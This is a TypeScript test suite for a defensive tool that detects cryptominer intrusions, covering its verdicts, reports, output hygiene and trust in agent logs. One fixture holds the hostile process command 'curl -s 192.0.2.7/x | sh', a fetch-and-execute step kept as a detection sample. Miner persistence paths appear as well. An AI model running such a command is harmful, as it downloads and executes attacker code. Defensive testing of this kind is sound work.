import assert from 'node:assert/strict'
import { chmodSync, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { stripVTControlCharacters } from 'node:util'
import { cleanFiles, infectedFiles, temporaryTree } from './temporary-tree.ts'

test('an infected tree is confirmed: exit status 20, one document that fits its schema', t => {
  const tree = temporaryTree(t, infectedFiles)
  const ended = tree.davylamp(['scan', '--root', tree.root, '--json'])
  assert.equal(ended.status, 20, ended.stderr)
  assert.equal(ended.stderr, '')
  const scan = tree.document('scan', ['scan', '--root', tree.root])
  assert.deepEqual([scan.verdict, scan.target.hostname, scan.target.live], ['confirmed', 'web-3', false])
  const paths = scan.incidents.flatMap(one => one.members).map(one => ('path' in one ? one.path : ''))
  for (const path of [
    '/tmp/.x/xm',
    '/tmp/.x/config.json',
    '/etc/systemd/system/xm.service',
    '/var/spool/cron/crontabs/root',
  ])
    assert.equal(paths.includes(path), true, `${path} belongs to no incident`)
  assert.equal(
    scan.gaps.some(one => one.what === 'processes' && one.why === 'needs a running system'),
    true,
  )
})

test('a clean tree gives exit status 0 and says so in the first line', t => {
  const tree = temporaryTree(t, cleanFiles)
  const ended = tree.davylamp(['scan', '--root', tree.root])
  assert.equal(ended.status, 0, ended.stdout)
  assert.match(ended.stdout, /^NOTHING FOUND – No sign of a miner or intruder in /)
})

test('the verdict stands in the first line, what to do at the end; no control character of a name gets out', t => {
  const tree = temporaryTree(t, infectedFiles)
  for (const words of [['scan'], ['plan'], ['clean']]) {
    const { stdout } = tree.davylamp([...words, '--root', tree.root])
    assert.doesNotMatch(stdout, /[\u0000-\u0009\u000b-\u001f\u007f]/, words.join(' '))
    assert.equal(stdout, stripVTControlCharacters(stdout))
  }
  const { stdout } = tree.davylamp(['scan', '--root', tree.root])
  assert.match(stdout, /^CONFIRMED – 1 intrusion in /)
  assert.match(stdout, /What to do now\n[\s\S]*clean --root/)
  assert.match(tree.davylamp(['plan', '--root', tree.root]).stdout, /a\\x1b\[2J\\x1b\[31m\\x0ab\.sh/)
})

test('no line is wider than asked, but for commands to copy', t => {
  const tree = temporaryTree(t, infectedFiles)
  const { stdout } = tree.davylamp(['scan', '--root', tree.root], { environment: { COLUMNS: '60' } })
  const wide = stdout.split('\n').filter(line => line.length > 60 && !/^ {2}davylamp /.test(line))
  assert.deepEqual(wide, [])
})

test('the scan is kept readable by its owner only, and not at all with --no-save', t => {
  const tree = temporaryTree(t, infectedFiles)
  tree.davylamp(['scan', '--root', tree.root, '--no-save'])
  assert.equal(existsSync(tree.state), false)
  tree.davylamp(['scan', '--root', tree.root])
  assert.equal(statSync(tree.state).mode & 0o777, 0o700)
  const ended = tree.davylamp(['explain', 'nothing-like-this'])
  assert.equal(ended.status, 64)
  assert.match(ended.stderr, /nothing is known of nothing-like-this/)
})

test('ids stay the same from scan to scan, also when the incident grows', t => {
  const tree = temporaryTree(t, infectedFiles)
  const first = tree.document('scan', ['scan', '--root', tree.root])
  const second = tree.document('scan', ['scan', '--root', tree.root])
  assert.deepEqual(
    second.incidents.map(one => one.id),
    first.incidents.map(one => one.id),
  )
  assert.deepEqual(
    second.findings.map(one => one.id),
    first.findings.map(one => one.id),
  )
})

test('the same tree gives the same plan, byte for byte', t => {
  const tree = temporaryTree(t, infectedFiles)
  const [one, two] = [1, 2].map(() => tree.davylamp(['plan', '--root', tree.root, '--json']).stdout)
  assert.equal(one, two)
})

test('a state folder that cannot be written is a gap, and nothing else', t => {
  const tree = temporaryTree(t, { ...infectedFiles, '/blocked': '' })
  const ended = tree.davylamp(['scan', '--root', tree.root, '--json', '--state', join(tree.root, 'blocked', 'state')])
  assert.equal(ended.status, 20)
  const gaps: { what: string }[] = JSON.parse(ended.stdout).gaps
  assert.equal(
    gaps.some(one => one.what === 'state folder'),
    true,
  )
})

/** What an agent of the tree's host wrote down of the miner's start. */
const noticedStart = {
  id: '01968c2f-7d2a-7c3e-9d53-0a1b2c3d4e5f',
  verdict: 'confirmed',
  level: 'high',
  title: 'Miner or its helper: /tmp/.x/xm',
  because: ['It talks with a pool.'],
  subject: { kind: 'process', pid: 4711, startTime: 5, path: '/tmp/.x/xm', cgroup: '/system.slice/php8.2-fpm.service' },
  chain: [
    { pid: 4710, startTime: 4, name: 'sh', path: '/usr/bin/dash', command: 'sh -c curl -s 192.0.2.7/x | sh' },
    { pid: 900, startTime: 3, name: 'php-fpm8.2', path: '/usr/sbin/php-fpm8.2', command: 'php-fpm: pool www' },
    { pid: 1, startTime: 1, name: 'systemd', path: '/usr/lib/systemd/systemd', command: '/sbin/init' },
  ],
  findings: [],
  families: [],
  attack: [],
  afterMs: 12,
}

const rootOnly = process.getuid?.() === 0 ? false : 'only what is root\u2019s is believed'

test('what the agent of a tree noticed names the chain and the door, and what was prevented; nobody else is believed', {
  skip: rootOnly,
}, t => {
  const tree = temporaryTree(t, infectedFiles)
  const own = join(tree.root, 'var/lib/davylamp/agent')
  mkdirSync(own, { recursive: true, mode: 0o700 })
  const file = join(own, 'detections.jsonl')
  const at = new Date().toISOString()
  const prevented = { kind: 'prevented', at, outcome: 'done', detail: 'known content' }
  const gone = { ...noticedStart, id: '01968c2f-7d2a-7c3e-9d53-0a1b2c3d4e60' }
  const lines = [
    { ...noticedStart, at, responses: [] },
    { ...gone, at, subject: { kind: 'process', pid: 9, path: '/dev/shm/gone' }, responses: [prevented] },
  ]
  writeFileSync(file, lines.map(one => `${JSON.stringify(one)}\n`).join(''), { mode: 0o600 })
  const scan = tree.document('scan', ['scan', '--root', tree.root])
  const incident = scan.incidents.find(one => one.noticed !== undefined)
  assert.ok(incident, 'no incident says what was noticed')
  assert.match(incident.summary.join('\n'), /^Noticed: php8\.2-fpm\.service → php-fpm8\.2 → sh → \/tmp\/\.x\/xm, /m)
  assert.deepEqual(
    incident.entryPoints.filter(one => one.because.includes('noticed')).map(one => [one.what, one.confidence]),
    [['web-application', 'medium']],
  )
  assert.deepEqual(
    scan.noticed?.map(one => one.subject.path),
    ['/dev/shm/gone'],
  )
  const { stdout } = tree.davylamp(['scan', '--root', tree.root])
  assert.match(
    stdout,
    /Noticed before, and not there now\n {2}- .*\/dev\/shm\/gone[^;]*; its\s+start\s+was\s+prevented/,
  )
  const explained = tree.davylamp(['explain', '--root', tree.root, incident.id]).stdout
  assert.match(explained, /Noticed as it happened\n[\s\S]*└ sh -c curl -s 192\.0\.2\.7\/x \| sh \(pid 4710\)/)
  const page = join(tree.folder, 'report.html')
  assert.equal(tree.davylamp(['report', '--root', tree.root, incident.id, '--out', page]).status, 0)
  assert.match(readFileSync(page, 'utf8'), /Noticed as it happened<\/h3>[\s\S]*php-fpm: pool www/)
  const verdict = scan.incidents.map(one => [one.id, one.verdict, one.members.map(fact => fact.id)])

  chmodSync(file, 0o644)
  const unbelieved = tree.document('scan', ['scan', '--root', tree.root])
  assert.deepEqual(
    unbelieved.incidents.map(one => [one.id, one.verdict, one.members.map(fact => fact.id)]),
    verdict,
  )
  assert.equal([...unbelieved.incidents, unbelieved].filter(one => one.noticed !== undefined).length, 0)
  assert.match(unbelieved.gaps.find(one => one.what === 'what was noticed before')?.why ?? '', /not believed/)
})
